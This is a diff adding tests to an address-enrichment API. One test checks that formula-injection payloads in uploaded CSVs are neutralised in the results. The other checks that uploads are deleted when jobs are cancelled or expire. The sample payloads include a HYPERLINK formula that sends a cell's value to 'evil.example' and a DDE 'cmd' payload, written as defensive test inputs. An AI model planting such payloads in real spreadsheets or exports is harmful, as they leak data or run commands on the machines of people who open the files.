@@ -7,7 +7,7 @@ import { ROW_STATUSES, batchLayer, layerColumns } from '../platform/batch/layers
 import { readUpload } from '../platform/enrich/csv.ts';
 import { enrichHandler, ENRICH_METER_GROUP } from '../platform/enrich/handler.ts';
 import { previewRows, proposeMapping, validateMapping } from '../platform/enrich/mapping.ts';
-import { getJob, jobRows } from '../platform/jobs/engine.ts';
+import { getJob, jobRows, sweepExpiredJobs } from '../platform/jobs/engine.ts';
 import { JobRegistry, JobWorker } from '../platform/jobs/worker.ts';
 import { createTestKey, testRuntime } from './support/runtime.ts';
 import type { TestRuntime } from './support/runtime.ts';
@@ -377,6 +377,47 @@ describe('the enrich routes', () => {
     expect(pointRows[1]![3]).toBe('invalid_input');
   });
 
+  it("neutralises formulas in the result, the upload's own header and cells included, and leaves numbers numeric", async () => {
+    const [a, b, c] = addresses;
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
+    const rows = [
+      ['Ref', 'Address', hyperlink, 'Reading'],
+      ['=1+2', a!.address, '@SUM(A1:A9)', '-37.81'],
+      ['+61 3 9999 0000', b!.address, "\t=cmd|' /C calc'!A0", '-12.5'],
+      ['-2+3', c!.address, '\r=1+1', 'ok;=1+1'],
+    ];
+    // every cell quoted, so the tab and carriage return reach the upload as they are
+    const csv = rows.map((r) => r.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')).join('\r\n');
+    const submitted = await submit(key, { csv });
+    expect(submitted.status, submitted.text).toBe(202);
+    expect(submitted.body.columns).toEqual(rows[0]);
+    const id = submitted.body.job.id as string;
+    const approved = await request(t.app)
+      .post(`/v1/enrich/jobs/${id}/approve`)
+      .set(auth(key))
+      .send({ mapping: { address: 'Address' } });
+    expect(approved.status, approved.text).toBe(202);
+    await drain();
+    const result = await request(t.app).get(`/v1/enrich/jobs/${id}/result`).set(auth(key));
+    expect(result.status, result.text).toBe(200);
+    const records: string[][] = parse(result.text);
+    const [header, ...out] = records;
+    expect(header!.slice(0, 4)).toEqual(['Ref', 'Address', `'${hyperlink}`, 'Reading']);
+    expect(out.map((r) => r.slice(0, 4))).toEqual([
+      ["'=1+2", a!.address, "'@SUM(A1:A9)", '-37.81'],
+      ["'+61 3 9999 0000", b!.address, "'\t=cmd|' /C calc'!A0", '-12.5'],
+      ["'-2+3", c!.address, "'\r=1+1", 'ok;=1+1'],
+    ]);
+    // Australian latitudes are negative: the appended coordinates stay plain numbers
+    out.forEach((r, i) => {
+      expect(r[4]).toBe('matched');
+      expect(r[7]).toMatch(/^-\d+\.\d+$/);
+      expect(Number(r[7])).toBeCloseTo(addresses[i]!.lat, 6);
+    });
+    // a cell with ';' is quoted, so a ';'-separated spreadsheet cannot split a formula out of it
+    expect(result.text).toContain('"ok;=1+1"');
+  });
+
   it('appends the requested bundles from the shared row contract, with section-3 statuses row by row', async () => {
     const [a, b] = addresses;
     const csv = csvOf([['address'], [a!.address], [b!.address], ['1 Nowhere Lane, Faketown VIC 3999']]);
@@ -413,6 +454,56 @@ describe('the enrich routes', () => {
     }
     // the credit of every layer that answered is in the headers, beside the address data's
     expect(result.headers['x-service-attribution']).toContain('|');
+  });
+
+  it('drops the upload when the job is cancelled (awaiting approval or queued) and when it expires', async () => {
+    const csv = csvOf([['address'], [addresses[0]!.address]]);
+    const uploaded = async () => {
+      const res = await submit(key, { csv });
+      expect(res.status, res.text).toBe(202);
+      return res.body.job.id as string;
+    };
+    const kept = (id: string) => db.query(`SELECT job_id FROM platform.enrich_upload WHERE job_id = $1`, [id]);
+    const cancel = async (id: string) => {
+      const res = await request(t.app).post(`/v1/jobs/${id}/cancel`).set(auth(key));
+      expect(res.status, res.text).toBe(200);
+      expect(res.body.job.state).toBe('cancelled');
+    };
+
+    const waiting = await uploaded();
+    expect(await kept(waiting)).toHaveLength(1);
+    await cancel(waiting);
+    expect(await kept(waiting)).toEqual([]);
+
+    const queued = await uploaded();
+    expect((await request(t.app).post(`/v1/enrich/jobs/${queued}/approve`).set(auth(key)).send({})).status).toBe(202);
+    await cancel(queued);
+    expect(await kept(queued)).toEqual([]);
+    expect(await drain()).not.toContain(queued);
+
+    // never approved, past the retention; and one cancelled while uploads outlived a cancel, past its expiry
+    const stale = await uploaded();
+    await db.query(`UPDATE platform.job SET created_at = now() - ($2 + 1) * interval '1 hour' WHERE id = $1`, [
+      stale,
+      t.config.jobRetentionHours,
+    ]);
+    const cancelledEarlier = await uploaded();
+    await db.query(
+      `UPDATE platform.job SET state = 'cancelled', finished_at = now(), expires_at = now() - interval '1 minute'
+       WHERE id = $1`,
+      [cancelledEarlier],
+    );
+    const fresh = await uploaded();
+    expect(await kept(cancelledEarlier)).toHaveLength(1);
+    expect(await sweepExpiredJobs(db, t.config.jobRetentionHours)).toBeGreaterThanOrEqual(2);
+    for (const id of [stale, cancelledEarlier]) {
+      expect((await getJob(db, id))!.state, id).toBe('expired');
+      expect(await kept(id), id).toEqual([]);
+    }
+    // the sweep takes only what expired: a job still awaiting approval keeps its upload
+    expect((await getJob(db, fresh))!.state).toBe('awaiting_approval');
+    expect(await kept(fresh)).toHaveLength(1);
+    await cancel(fresh);
   });
 
   it('refuses a bundle the key cannot read with 403 Missing scope, at submit', async () => {
